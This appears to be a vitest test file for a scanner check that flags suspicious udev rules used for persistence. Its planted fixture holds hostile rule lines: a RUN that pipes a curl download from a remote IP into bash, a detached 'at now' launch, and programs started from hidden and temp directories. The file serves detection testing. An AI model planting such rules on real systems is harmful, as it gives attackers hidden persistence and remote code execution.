/**
 * The udev rules check over planted trees: a local rule that RUNs a program from a
 * hidden directory, one that downloads and runs a script through a shell, one that
 * detaches a process with `at now`, a PROGRAM match key, a bare program name resolved in
 * /lib/udev, RUN{builtin} ignored, continuation lines; exact rule ids, severities and
 * lines; sed and udevadm remediation; programs recorded. Stock Debian rules (the
 * debootstrapped root's and this machine's) stay below medium; hostile rules files
 * neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { udevPrograms, udevRulesCheck } from '../../src/checks/udev-rules.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, mediumOrAbove, rowKeys, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';
import { fixture } from '../helpers/fixtures.js';

const DEBIAN_ROOT = fixture('debianRoot');

/** Packaged rules of the debootstrapped root and of this machine, with a dpkg list owning them. */
function stockRules(): Record<string, PlantedFile> {
  const out: Record<string, PlantedFile> = {};
  const owned: string[] = [];
  for (const root of [DEBIAN_ROOT, '/']) {
    const dir = path.join(root, 'usr/lib/udev/rules.d');
    if (!existsSync(dir)) continue;
    for (const name of readdirSync(dir).filter((n) => n.endsWith('.rules'))) {
      out[`usr/lib/udev/rules.d/${name}`] = readFileSync(path.join(dir, name));
      owned.push(`/usr/lib/udev/rules.d/${name}`);
    }
  }
  out['var/lib/dpkg/info/udev.list'] = `${owned.join('\n')}\n/usr/lib/udev/hwclock-set\n`;
  return out;
}

const STOCK = stockRules();
const LOCAL = '/etc/udev/rules.d/99-net-helper.rules';
const INFECTED: Record<string, PlantedFile> = {
  [LOCAL.slice(1)]: [
    '# network helper',
    'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/.udev/netd --quiet"',
    'ACTION=="add", SUBSYSTEM=="block", \\',
    '  RUN+="/bin/sh -c \'curl -fsSL http://198.51.100.7/u.sh | bash\'"',
    'ACTION=="add", KERNEL=="tty*", RUN+="/bin/sh -c \'echo /usr/local/bin/upd | at now\'"',
    'SUBSYSTEM=="usb", PROGRAM=="/var/tmp/probe %k", RUN{builtin}+="kmod load usbhid"',
    'ACTION=="add", SUBSYSTEM=="input", RUN+="hdparm -B 254 $devnode"',
    '',
  ].join('\n'),
  'usr/lib/.udev/netd': { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46]), mode: 0o755 },
  // A local rule an administrator writes: only the low inventory.
  'etc/udev/rules.d/70-disk-sched.rules': 'ACTION=="add|change", KERNEL=="sd[a-z]", RUN+="/usr/local/sbin/set-scheduler %k"\n',
  // Masks the packaged file of that name.
  'run/udev/rules.d/README': 'not a rules file: RUN+="/tmp/x"\n',
};
const INFECTED_LINKS: [string, string][] = [['etc/udev/rules.d/85-hwclock.rules', '/dev/null']];

const EXPECTED: FindingRow[] = [
  ['command.started-from-hidden', 'high', LOCAL, 2],
  ['udev.unpackaged-run', 'low', LOCAL, 2],
  ['command.download-and-run', 'high', LOCAL, 3],
  ['udev.unpackaged-run', 'low', LOCAL, 3],
  ['udev.run-detaches', 'medium', LOCAL, 5],
  ['udev.unpackaged-run', 'low', LOCAL, 5],
  ['command.started-from-temp', 'high', LOCAL, 6],
  ['udev.unpackaged-run', 'low', LOCAL, 6],
  ['udev.unpackaged-run', 'low', LOCAL, 7],
  ['udev.unpackaged-run', 'low', '/etc/udev/rules.d/70-disk-sched.rules', 1],
];

describe('udev rules check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-udev-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, { ...STOCK, ...INFECTED }, INFECTED_LINKS);
    await plantFiles(clean, STOCK);
    const junk = junkBytes(300_000);
    await plantFiles(
      hostile,
      {
        'etc/udev/rules.d/junk.rules': junk,
        'etc/udev/rules.d/long.rules': `RUN+="${'\\"'.repeat(200_000)}"\n${'A=="b", \\\n'.repeat(100_000)}\nPROGRAM="${'x '.repeat(300_000)}"\n`,
        'etc/udev/rules.d/many.rules': 'RUN+="/bin/true"\n'.repeat(20_000),
      },
      [['etc/udev/rules.d/loop.rules', 'loop.rules']],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds every planted udev rule with its rule, severity and line', async () => {
    const result = await scanDirectory(infected, [udevRulesCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) {
      expect(f.category).toBe('persistence/udev');
      expect(`${f.message}\n${f.remediation}`).not.toMatch(/\{(?:path|line|where|context|fix|name|evidence)\}/);
    }
  });

  it('removes the rule line and reloads udev', async () => {
    const { findings } = await scanDirectory(infected, [udevRulesCheck]);
    const fix = findings.find((f) => f.rule === 'command.started-from-hidden')!.remediation.split('\n');
    expect(fix.slice(0, 3)).toEqual([
      `sed -i '2d' ${LOCAL}   # deletes line 2: ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/.udev/netd --quiet"`,
      'udevadm control --reload-rules',
      'rm -f /usr/lib/.udev/netd   # the program it starts',
    ]);
    expect(findings.find((f) => f.rule === 'udev.unpackaged-run' && f.line === 7)!.message).toContain('runs /lib/udev/hdparm on device events');
  });

  it('records the programs rules start, never builtins', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [udevRulesCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/usr/lib/.udev/netd', startedBy: `${LOCAL}:2` },
        { path: '/bin/sh', startedBy: `${LOCAL}:3` },
        { path: '/var/tmp/probe', startedBy: `${LOCAL}:6` },
        { path: '/lib/udev/hdparm', startedBy: `${LOCAL}:7` },
      ]),
    );
    expect(collector.started.some((s) => s.path.includes('kmod'))).toBe(false);
    // The /dev/null link in /etc masks the packaged hwclock rule.
    expect(collector.started.some((s) => s.path === '/usr/lib/udev/hwclock-set')).toBe(false);
  });

  it('reads RUN, RUN{program}, PROGRAM and IMPORT{program} values only', () => {
    expect(udevPrograms('ENV{X}=="1", IMPORT{program}="ata_id --export $devnode", IMPORT{file}="/tmp/x", RUN{program}+="/bin/a ; b", RUN=="/tmp/no"')).toEqual([
      '/lib/udev/ata_id --export $devnode',
      '/bin/a \\; b',
    ]);
  });

  it('finds nothing of medium severity or more in stock udev rules', async () => {
    const result = await scanDirectory(clean, [udevRulesCheck]);
    expect(result.errors).toEqual([]);
    expect(mediumOrAbove(result.findings)).toEqual([]);
    expect(result.filesExamined).toBeGreaterThanOrEqual(9);
  });

  it('reads hostile rules files without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [udevRulesCheck], { maxOperations: 1_200 });
    expect(result.findings.filter((f) => f.path === '/etc/udev/rules.d/many.rules')).toHaveLength(50);
  });
});
